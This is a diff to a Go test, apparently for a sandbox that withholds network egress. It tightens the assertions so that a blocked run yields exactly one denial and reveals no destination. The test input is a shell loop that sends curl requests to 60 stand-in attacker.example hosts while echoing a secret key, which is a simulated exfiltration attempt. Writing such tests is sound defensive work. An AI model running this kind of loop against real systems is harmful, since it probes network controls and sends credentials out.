@@ -34,11 +34,11 @@ func TestAttack60_GuessesWithinWalls(t *testing.T) {
 		}
 		res = mustRun(t, e, sh(`i=0; while [ $i -lt 60 ]; do curl -sS --max-time 5 https://h$i.attacker.example/; echo "`+acmeKey+`"; i=$((i+1)); done 2>/dev/null`))
 		for _, d := range res.Denials {
-			if d.Where != "" {
-				t.Errorf("a withheld run tells %q", d.Where)
+			if d.Where != "" || d.Count != 1 {
+				t.Errorf("a withheld run tells %q, %d times", d.Where, d.Count)
 			}
 		}
-		if !res.Withheld || len(res.Denials) == 0 {
+		if !res.Withheld || len(res.Denials) != 1 {
 			t.Errorf("%+v", res)
 		}
 	})
